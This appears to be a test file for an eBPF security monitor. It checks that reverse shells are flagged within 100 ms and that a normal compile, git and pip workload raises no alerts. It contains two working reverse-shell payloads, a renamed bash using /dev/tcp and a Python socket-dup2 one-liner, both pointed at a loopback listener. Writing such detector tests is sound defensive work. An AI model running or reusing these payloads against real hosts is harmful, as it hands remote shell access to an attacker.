"""The rules on real behaviour: reverse shells by behaviour (renamed shell, Python one-liner)
caught within 100 ms of the dup; an ordinary build-like workload raises nothing."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time

import pytest

from coi_sentinel.events import model
from coi_sentinel.host.cgroups import WorkloadCgroup

from support import require_bpf

pytestmark = pytest.mark.bpf


class Live:
    """A Monitor scoped to one workload cgroup, with the bundled rules."""

    def __init__(self, cg: WorkloadCgroup) -> None:
        from coi_sentinel.monitor import Monitor, MonitorOptions
        from coi_sentinel.rules import Engine, load_ruleset

        ruleset = load_ruleset(None)
        self.mon = Monitor(MonitorOptions(cgroups=(str(cg.path),),
                                          sensitive_prefixes=tuple(ruleset.sensitive_prefixes()),
                                          sensitive_suffixes=tuple(ruleset.sensitive_suffixes())))
        self.mon.start()
        self.alerts: list[tuple[object, int]] = []   # (alert, monotonic ns when it was raised)
        self.dups: list[model.DupEvent] = []
        self.mon.pipeline.add_sink(lambda ev, _p: self.dups.append(ev) if isinstance(ev, model.DupEvent) else None)
        self.mon.pipeline.add_sink(Engine(ruleset, on_alert=lambda a: self.alerts.append((a, time.monotonic_ns())),
                                          table=self.mon.pipeline.table))
        self.cg = cg

    def run(self, argv, *, cwd=None, env=None, timeout=120) -> int:
        procs = self.cg.path / "cgroup.procs"

        def enter() -> None:
            with open(procs, "w") as f:
                f.write(str(os.getpid()))

        p = subprocess.Popen(argv, preexec_fn=enter, cwd=cwd, env=env, stdin=subprocess.DEVNULL,
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + timeout
        while p.poll() is None and time.monotonic() < deadline:
            self.mon.poll(10)
        if p.poll() is None:
            p.kill()
        out = p.stdout.read()
        for _ in range(20):
            self.mon.poll(10)
        self.last_output = out
        return p.wait()

    def close(self) -> None:
        self.mon.close()


@pytest.fixture
def live():
    require_bpf()
    with WorkloadCgroup("coi-rules") as cg:
        lv = Live(cg)
        try:
            yield lv
        finally:
            lv.close()


@pytest.fixture
def listener():
    """A loopback listener that takes one connection, sends a command, reads what comes back."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(20)
    got = {}

    def serve() -> None:
        try:
            conn, _ = srv.accept()
            conn.settimeout(5)
            conn.sendall(b"echo owned-$((6*7))\nexit\n")
            data = b""
            try:
                while chunk := conn.recv(4096):
                    data += chunk
            except OSError:
                pass
            got["data"] = data
            conn.close()
        except OSError:
            pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield srv.getsockname()[1], got, t
    srv.close()


def _reverse_alerts(live):
    return [(a, t) for a, t in live.alerts if a.rule.startswith("reverse_shell")]


def _assert_fast(live):
    hits = _reverse_alerts(live)
    assert hits, [a.rule for a, _ in live.alerts]
    socket_dups = [d for d in live.dups if d.is_socket]
    assert socket_dups
    first_dup = min(d.ts_ns for d in socket_dups)
    first_alert = min(t for _, t in hits)
    assert first_alert - first_dup < 100_000_000, f"{(first_alert - first_dup) / 1e6:.1f} ms"


def test_renamed_shell_reverse_shell_is_caught(live, listener, tmp_path):
    port, got, thread = listener
    renamed = tmp_path / "notes-helper"
    shutil.copy("/bin/bash", renamed)
    rc = live.run([str(renamed), "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port}; exec 1>&0 2>&0; "
                                       f"exec {renamed} -i"])
    thread.join(10)
    assert b"owned-42" in got.get("data", b""), (rc, live.last_output)
    _assert_fast(live)


def test_python_one_liner_reverse_shell_is_caught(live, listener):
    port, got, thread = listener
    code = textwrap.dedent(f"""
        import os, socket
        s = socket.create_connection(('127.0.0.1', {port}))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.execv('/bin/sh', ['sh', '-i'])
    """)
    live.run([sys.executable, "-c", code])
    thread.join(10)
    assert b"owned-42" in got.get("data", b"")
    _assert_fast(live)
    assert any(a.rule == "reverse_shell_exec_socket_stdio" for a, _ in live.alerts) or \
        any(a.rule == "reverse_shell_socket_dup" for a, _ in live.alerts)


def test_build_like_workload_raises_nothing(live, tmp_path):
    if shutil.which("git") is None or shutil.which("gcc") is None:
        pytest.skip("needs git and gcc")
    proj = tmp_path / "proj"
    (proj / "src").mkdir(parents=True)
    for i in range(3):
        (proj / "src" / f"m{i}.c").write_text(f"int f{i}(int x) {{ return x + {i}; }}\n")
    (proj / "src" / "main.c").write_text("int f0(int);int f1(int);int f2(int);\n"
                                         "int main(void){return f0(0)+f1(-1)+f2(-2);}\n")
    (proj / "test_it.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
    (proj / "pkg").mkdir()
    (proj / "pkg" / "pyproject.toml").write_text(
        '[build-system]\nrequires=["setuptools"]\nbuild-backend="setuptools.build_meta"\n'
        '[project]\nname="coi-demo"\nversion="1.0"\n')
    (proj / "pkg" / "coi_demo.py").write_text("X = 1\n")
    venv = tmp_path / "venv"
    script = textwrap.dedent(f"""
        set -e
        cd {proj}
        for f in src/*.c; do gcc -O1 -c "$f" -o "${{f%.c}}.o"; done
        gcc -o app src/*.o && ./app
        {sys.executable} -m pytest -q -p no:cacheprovider test_it.py
        git init -q . && git -c user.email=a@b -c user.name=a add -A
        git -c user.email=a@b -c user.name=a commit -qm init && git log --oneline | head -1
        git status --short
        {sys.executable} -m pip wheel -q --no-deps --no-build-isolation -w dist ./pkg
        {sys.executable} -m venv {venv}
        {venv}/bin/python -m pip install -q --no-index dist/coi_demo-1.0-py3-none-any.whl
        {venv}/bin/python -c 'import coi_demo; print(coi_demo.X)'
    """)
    rc = live.run(["/bin/sh", "-c", script], env={**os.environ, "HOME": str(tmp_path)})
    assert rc == 0, live.last_output.decode(errors="replace")[-2000:]
    assert [a.rule for a, _ in live.alerts if not _test_interpreter_in_tmp(a)] == []


def _test_interpreter_in_tmp(alert) -> bool:
    """The test's own venv under /tmp (a CI checkout there) is, honestly, a program run from
    /tmp: that one alert says nothing about the workload."""
    venv_bin = os.path.dirname(sys.executable) + "/"
    return (alert.rule == "exec_from_tmp" and venv_bin.startswith(("/tmp/", "/var/tmp/"))
            and alert.process.exe.startswith(venv_bin))
